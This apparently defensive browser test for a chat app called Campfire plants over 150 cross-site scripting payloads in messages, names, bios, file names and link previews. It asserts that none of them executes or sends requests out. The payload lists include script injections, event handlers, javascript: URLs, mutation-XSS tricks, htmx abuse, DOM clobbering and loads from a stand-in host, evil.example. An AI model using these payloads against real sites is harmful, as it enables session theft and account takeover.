"""What somebody writes never runs, wherever it is shown.

Each vector is a body, a name of a person, of a room and of a file, a bio, a boost, what
a linked page says of itself, a draft and more, in real Chromium. Nothing runs, nothing
asks to: the content policy reports nothing, no dialog opens, no request leaves the
house.
"""

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from campfire.chat import (
    accounts,
    boosts,
    files,
    jobs,
    messages,
    previews,
    rooms,
    users,
)
from campfire.chat.files import Stored
from campfire.chat.memberships import mentionable
from campfire.chat.previews import Card
from campfire.chat.richtext import draft
from campfire.database import Database, Tx
from campfire.refusals import Refusal
from tests.browser.conftest import Campfire, light_the_fire

SCRIPTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</ScRiPt>
<script src=//evil.example/x.js></script>
<script type=module>import "//evil.example/x.js"</script>
<script>/*</script><script>alert(1)//*/</script>
<svg><script>alert(1)</script></svg>
<svg><script href=//evil.example/x.js />
<math><script>alert(1)</script></math>
<script/x>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<noscript><script>alert(1)</script></noscript>
<template><script>alert(1)</script></template>
<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>
<script type=importmap>{"imports":{"x":"//evil.example"}}</script>
<script nonce=x>alert(1)</script>
<link rel=modulepreload href=//evil.example/x.js>
"""
HANDLERS = """
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<img src=x onerror&#61;alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<b onmouseover=alert(1) style=position:fixed;inset:0>x</b>
<a href=https://a.example onclick=alert(1)>x</a>
<p onanimationstart=alert(1) style=animation:x>x</p>
<style>@keyframes x{}</style><p style=animation-name:x onanimationend=alert(1)>x</p>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<div contenteditable onblur=alert(1) tabindex=1 autofocus>x</div>
<p onpointerover=alert(1) onwheel=alert(1)>x</p>
<xss oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x
"""
ADDRESSES = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#9;script:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](\x01javascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](//evil.example)
[x](/session)
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example "x" onclick=alert(1) ")
[x](https://a.example '"><img src=x onerror=alert(1)>')
![x](https://evil.example/x.png)
![x](x" onerror="alert(1))
<javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)" target=_blank>x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<a href="https://a.example" ping="//evil.example">x</a>
<a href="//evil.example" download>x</a>
<a href=blob:null>x</a>
<a xlink:href=javascript:alert(1)>x</a>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<math><maction actiontype=x xlink:href=javascript:alert(1)>x</maction></math>
"""
MUTATIONS = """
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=x&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style></select>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<?php <img src=x onerror=alert(1)> ?>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></math>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<table><td><svg><p><style><g id="</style><img src=x onerror=alert(1)>">
<a href=https://a.example><a href=https://b.example>x<img src onerror=alert(1)></a></a>
<img src="x` `<script>alert(1)</script>"` `>
<img alt="`><img src=x onerror=alert(1)>">
<p title='"'onclick=alert(1) '">x
<b <img src=x onerror=alert(1)>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
%3Cimg src=x onerror=alert(1)%3E
"""
HTMX = """
<p hx-get=/session hx-trigger=load>x</p>
<p data-hx-post=/x hx-trigger=load>x</p>
<p hx-on:click=alert(1)>x</p>
<p hx-on::load=alert(1)>x</p>
<p hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load>x</p>
<p hx-trigger="load[alert(1)]" hx-get=/>x</p>
<p hx-delete=/rooms/1 hx-trigger=revealed>x</p>
<p hx-live="alert(1)">x</p>
<hx-partial hx-target=body><img src=x onerror=alert(1)></hx-partial>
<template partial><img src=x onerror=alert(1)></template>
<meta name=htmx-config content='{"allowEval":true}'>
<a hx-boost=true href=/session>x</a>
"""
CLOBBERING = """
<form id=composer><input name=body></form>
<a id=log></a><a id=log name=length>x</a>
<img name=body>
<a id=config></a><a id=config name=url href=//evil.example>x</a>
<form name=querySelector>x</form>
<p id=main data-room-id=1 class=sheet>x</p>
<article class=message data-message-id=1>x</article>
<b class=mention data-user-id=1>x</b>
<p is=x slot=x part=x>x</p>
<input form=composer name=body value=x>
"""
STYLES = """
<style>*{background:url(//evil.example)}</style>
<style>@import "//evil.example"</style>
<link rel=stylesheet href=//evil.example>
<p style="background:url(//evil.example)">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p class="button is-danger" style=top:0>x</p>
<svg><style>*{fill:url(//evil.example)}</style>
<table background=//evil.example><td>x</table>
<font color=red size=9 face=x>x</font>
<p style="width:expression(alert(1))">x</p>
"""
FORMS = """
<form action=/session method=post><button>Sign out</button></form>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit autofocus></form>
<base href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="default-src *">
<iframe src=//evil.example></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=//evil.example></object>
<object data=javascript:alert(1)></object>
<embed src=//evil.example>
<embed src=javascript:alert(1)>
<frameset onload=alert(1)>
<applet code=x>
<portal src=//evil.example>
<fencedframe src=//evil.example>
<input type=image src=//evil.example>
<isindex action=javascript:alert(1)>
<keygen autofocus onfocus=alert(1)>
"""
DIRECTIONS = """
\u202egnp.exe
\u2066<img src=x onerror=alert(1)>\u2069
\u202ehttps://a.example/\u202c
https://a.example/\u202e"onmouseover=alert(1)
https://a.example" onmouseover="alert(1)
https://a.example/'onmouseover='alert(1)
https://a.example/<img src=x onerror=alert(1)>
www.a.example"><img src=x onerror=alert(1)>
a@b.example"onclick=alert(1)
http://a((((((((((<img src=x onerror=alert(1)>
\u2028<img src=x onerror=alert(1)>\u2029
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
\ufeff<img src=x onerror=alert(1)>
"""
TEMPLATES = """
{{7*7}}{{config}}
{% include "x" %}{{''.__class__}}
${alert(1)}`${alert(1)}`
#{7*7}<%= 7*7 %>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
` onload=alert(1)
</title><img src=x onerror=alert(1)>
</textarea><img src=x onerror=alert(1)>
</style><img src=x onerror=alert(1)>
</article></main><img src=x onerror=alert(1)>
--></script><img src=x onerror=alert(1)>
\\"};alert(1);//
</template><img src=x onerror=alert(1)>
x ```<img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
|<img src=x onerror=alert(1)>|
[<img src=x onerror=alert(1)>](https://a.example)
[x]: https://a.example '<img src=x onerror=alert(1)>'
:<img src=x onerror=alert(1)>:
@<img src=x onerror=alert(1)>
"""
GROUPS = (SCRIPTS, HANDLERS, ADDRESSES, MUTATIONS, HTMX, CLOBBERING, STYLES, FORMS)
VECTORS = [
    vector
    for group in (*GROUPS, DIRECTIONS, TEMPLATES)
    for vector in group.strip("\n").split("\n")
]
assert len(VECTORS) == len(set(VECTORS)) >= 150

CUSTOM = """
</style><script>alert(1)</script><img src=x onerror=alert(1)>
body { background: expression(alert(1)); behavior: url(/x); -moz-binding: url(/x) }
"""
WATCH = """
addEventListener("securitypolicyviolation", (event) => {
  reportAttack(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = () => reportAttack(`${name} was called`);
}
"""


@dataclass
class Watched:
    """A window in which everything that an attack would do is noted."""

    page: Page
    noted: list[str] = field(default_factory=list)


@pytest_asyncio.fixture(loop_scope="session")
async def watched(chromium: Browser, campfire: Campfire) -> AsyncIterator[Watched]:
    context = await chromium.new_context(base_url=campfire.url)
    page = await context.new_page()
    watched = Watched(page)
    noted = watched.noted
    await page.expose_function("reportAttack", lambda what: noted.append(what))
    await page.add_init_script(WATCH)

    def asked(url: str) -> None:
        if not url.startswith((campfire.url + "/", "data:image", "blob:")):
            noted.append(f"asked for {url}")

    page.on("request", lambda request: asked(request.url))
    page.on("pageerror", lambda error: noted.append(str(error)))
    page.on("popup", lambda popup: noted.append("a window opened"))
    yield watched
    await context.close()


@dataclass
class Stage:
    people: list[int] = field(default_factory=list)
    rooms: list[int] = field(default_factory=list)
    messages: list[int] = field(default_factory=list)
    by_bots: list[int] = field(default_factory=list)
    papers: int = 0
    with_papers: list[int] = field(default_factory=list)


def set_the_stage(tx: Tx) -> Stage:
    """Everything that somebody can name or say is a vector, in rooms of David's."""
    stage = Stage()
    bot = users.add(tx, "Bender", "bender@x.example", "!", "bot")
    quiet = rooms.create(tx, 1, "open", "Bots").id
    for number, vector in enumerate(VECTORS):
        name = users.require_name(name_of(vector, users.LONGEST_NAME))
        person = users.add(tx, name, f"{number}@x.example", "!")
        users.revise(tx, person.id, users.Profile(bio=vector))
        stage.people.append(person.id)
    for number, (vector, person_id) in enumerate(zip(VECTORS, stage.people)):
        people = mentionable(tx, person_id, 1)
        for words in (f"{vector} <@{person_id}>", f"<@{person_id}>\n\n> {vector}"):
            said = draft(words, people)
            message, _ = messages.post(tx, person_id, 1, said, f"{number}.{len(words)}")
        stage.messages.append(message.id)
        boosts.add(tx, person_id, message.id, vector[:16].strip() or "x")
        try:
            said = draft(f"x {vector}\n\n{vector}", people, is_bot=True)
            message, _ = messages.post(tx, bot.id, quiet, said, f"bot.{number}")
            stage.by_bots.append(message.id)
        except Refusal:
            pass
        if number % 3 == 0:
            stage.rooms.append(rooms.create(tx, 1, "open", name_of(vector)).id)
    accounts.revise(tx, 1, name=name_of(VECTORS[18]), custom_styles=CUSTOM)
    lay_out_papers(tx, stage)
    return stage


def lay_out_papers(tx: Tx, stage: Stage) -> None:
    """Files and linked pages that are called as the vectors are; every second file is
    a picture."""
    stage.papers = rooms.create(tx, 1, "open", "Papers").id
    for number, vector in enumerate(VECTORS):
        kind, ending = (
            ("image/png", "png") if number % 2 else ("application/pdf", "pdf")
        )
        file = Stored(
            f"{number:026d}",
            files.clean(f"{vector}.{ending}"),
            *(kind, 1, bytes(32), 40, 30, bool(number % 2)),
        )
        said = draft(f"https://a.example/{number}")
        message, _ = messages.post(tx, 1, stage.papers, said, f"paper.{number}", [file])
        stage.with_papers.append(message.id)
    leased = jobs.lease(
        tx, previews.KIND, jobs.clock(), most=9_999, each=9_999, lasts=60_000
    )
    kept = 0
    for job in leased.jobs:
        if job.payload["message_id"] in stage.with_papers:
            vector = VECTORS[int(job.payload["url"].rpartition("/")[2])]
            assert previews.keep(tx, job, Card(name_of(vector), vector, vector))
            kept += 1
    assert kept == len(VECTORS)


def name_of(vector: str, longest: int = 50) -> str:
    """As much of it as may be a name; control characters are refused in one."""
    return "".join(filter(str.isprintable, vector))[:longest].strip()


async def test_nothing_that_somebody_writes_runs_anywhere(
    campfire: Campfire, watched: Watched
) -> None:
    page = watched.page
    await light_the_fire(page)
    db = Database(campfire.data / "campfire.sqlite3", publish=lambda event: None)
    stage = await db.write(set_the_stage)
    await db.close()

    async def look(path: str, contains: str = "body") -> None:
        await page.goto(path, wait_until="load")
        await expect(page.locator(contains).first).to_be_attached()
        assert watched.noted == [], path

    # Bodies, authors, mentions, boosts, the sidebar, in the window and scrolled to.
    for room_id, said in (
        *((1, stage.messages), (2, stage.by_bots)),
        (stage.papers, stage.with_papers),
    ):
        await look(f"/rooms/{room_id}?limit=100", "#log article")
        for anchor in said[145:0:-48]:
            await look(f"/rooms/{room_id}?limit=100&before={anchor}", "#log article")
    await look(f"/rooms/1/@{stage.messages[60]}", "#log article")
    for message_id in stage.messages[::64]:
        await look(f"/rooms/1/messages/{message_id}/edit")
    for path in ("/account", "/account/users", "/users/me", "/rooms/new"):
        await look(path)
    for person_id in stage.people[::48]:
        await look(f"/users/{person_id}")
    for room_id in stage.rooms[::24]:
        await look(f"/rooms/{room_id}/edit")
        await look(f"/rooms/{room_id}")
    await look(f"/rooms/{stage.papers}", "#log .preview")
    await page.locator("#log a.picture").last.click()
    await expect(page.get_by_role("dialog")).to_be_visible()
    assert watched.noted == []
    # Addresses, and what refuses them.
    for vector in VECTORS[::48]:
        for path in (f"/{quote(vector, safe='')}", f"/rooms/1?before={quote(vector)}"):
            await look(path)
        await look(f"/session/new?email_address={quote(vector)}")
    # What is typed and comes back from the server while one looks.
    await look("/rooms/1", "#log article")
    for vector in VECTORS[::16]:
        before = await page.locator("#log article[data-message-id]").count()
        composer = page.locator("#composer textarea, textarea[name=body]").first
        await composer.fill(f"x {vector}")
        await composer.press("Enter")
        await expect(page.locator("#log article.is-pending")).to_have_count(0)
        # The first of them leads from where one stopped to the newest page.
        shown = await page.locator("#log article[data-message-id]").count()
        assert shown >= min(before, 40)
    await composer.fill("\n".join(VECTORS))
    await page.reload()
    assert watched.noted == []
    # What is looked for, what is found, and what waits to be read.
    for vector in VECTORS[::48]:
        await look(f"/searches?q={quote(vector)}")
    await look("/searches?q=alert", ".result")
    await look(f"/rooms/1/@{stage.messages[0]}?q=alert&hit=1", ".hits")
    await page.request.post("/rooms/1/read", form={"message_id": "0"})
    await look("/inbox?kind=unread", ".inbox-item")
    await look("/inbox", ".missed-room")
    await look("/inbox?kind=mentions")
    await page.keyboard.press("Control+k")
    await expect(page.get_by_role("combobox", name="Jump to")).to_be_focused()
    await page.keyboard.type("alert")
    await expect(page.get_by_role("option", name="in All Talk").first).to_be_visible()
    assert watched.noted == []

    # The watch sees what it is there for.
    await page.evaluate("""() => new Promise((resolve) => {
          addEventListener("securitypolicyviolation", resolve);
          const image = document.createElement("img");
          image.setAttribute("onerror", "alert(1)");
          image.src = "//evil.example/x.png";
          document.body.append(image);
        }).then(() => alert(1))""")
    await page.evaluate("1")
    assert "alert was called" in watched.noted
    assert any("img-src" in note for note in watched.noted)
